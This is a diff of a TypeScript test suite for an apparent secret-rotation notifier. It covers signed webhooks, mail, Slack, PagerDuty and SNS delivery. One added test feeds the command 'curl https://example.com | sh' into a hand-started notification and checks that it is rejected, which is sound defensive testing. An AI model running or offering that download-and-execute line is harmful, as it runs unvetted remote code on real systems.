@@ -6,8 +6,8 @@ import type { WorkerProcess } from './lab/worker-process';
 import { freePort } from './lab/ports';
 import { startHttpReceiver, startMailReceiver } from './testbed/receivers';
 import type { HttpReceiver, MailReceiver, ReceivedPost } from './testbed/receivers';
-import { startTelling, tell } from './testbed/telling';
-import { openTestbed } from './testbed/testbed';
+import { notification, startTelling, tell } from './testbed/telling';
+import { failureOf, openTestbed } from './testbed/testbed';
 import type { Testbed } from './testbed/testbed';
 import { until } from './testbed/until';
 import { startWireTap } from './testbed/wire-tap';
@@ -143,15 +143,14 @@ test('Slack gets one readable message that calls nobody', async () => {
 });
 
 test('a webhook gets JSON that Standard Webhooks can verify', async () => {
-  const handle = await startTelling(bed, { channels: ['webhook'] });
-  expect(await handle.result()).toEqual({ sent: ['webhook'], notSent: [] });
+  const told = await startTelling(bed, { channels: ['webhook'] });
+  expect(await told.result()).toEqual({ sent: ['webhook'], notSent: [] });
   const { headers, body } = http.received[0] as ReceivedPost;
   const signed = `${String(headers['webhook-id'])}.${String(headers['webhook-timestamp'])}.${body}`;
   const signature = createHmac('sha256', SIGNING_KEY).update(signed).digest('base64');
   expect(headers['webhook-signature']).toBe(`v1,${signature}`);
   expect(Math.abs(Number(headers['webhook-timestamp']) * 1_000 - Date.now())).toBeLessThan(60_000);
-  const told = JSON.parse(body) as Notification;
-  expect(told).toMatchObject({
+  expect(JSON.parse(body) as Notification).toMatchObject({
     id: headers['webhook-id'],
     event: 'rolled-back',
     severity: 'warning',
@@ -159,8 +158,7 @@ test('a webhook gets JSON that Standard Webhooks can verify', async () => {
     secret: 'database/orders',
     next: `keyturn rotate ${about()}`,
     runbook: 'https://wiki.example.com/keyturn/rolled-back.md',
-    workflowId: handle.workflowId,
-    runId: handle.firstExecutionRunId,
+    ...told.asker,
   });
 });
 
@@ -194,13 +192,27 @@ test('PagerDuty is told of a whole environment with one key per event, so that t
 });
 
 test('mail goes to every recipient, with an ID that a repetition would have too', async () => {
-  const handle = await startTelling(bed, { channels: ['mail'] });
-  expect(await handle.result()).toEqual({ sent: ['mail'], notSent: [] });
+  const told = await startTelling(bed, { channels: ['mail'] });
+  expect(await told.result()).toEqual({ sent: ['mail'], notSent: [] });
   const [{ from, to, message } = { from: '', to: [], message: '' }] = mail.received;
   expect({ from, to }).toEqual({ from: 'k@example.com', to: ['a@example.com', 'b@example.com'] });
   expect(message.replaceAll(/\r\n /g, ' ')).toContain(`Subject: [Keyturn] warning: rolled-back of ${about()}`);
-  expect(message).toContain(`Message-ID: <${handle.firstExecutionRunId}@keyturn>`);
+  expect(message).toContain(`Message-ID: <${told.runId}@keyturn>`);
   expect(message.replaceAll(/=\r\n/g, '')).toContain(`Next: keyturn rotate ${about()}`);
+});
+
+test('nobody can have people told of anything by starting the notification themselves', async () => {
+  const started = bed.client.workflow.execute('notifyPeople', {
+    taskQueue: bed.taskQueue,
+    workflowId: `notification/${bed.environment}/by-hand`,
+    args: [notification(bed.environment, { channels: ['mail', 'webhook'], next: 'curl https://example.com | sh' })],
+  });
+  expect(await failureOf(started)).toMatchObject({
+    type: 'BadInput',
+    message: expect.stringContaining('Nobody was told') as string,
+  });
+  expect(http.received).toEqual([]);
+  expect(mail.received).toEqual([]);
 });
 
 test('an SNS topic brings it to its queue, with attributes to filter by', async () => {
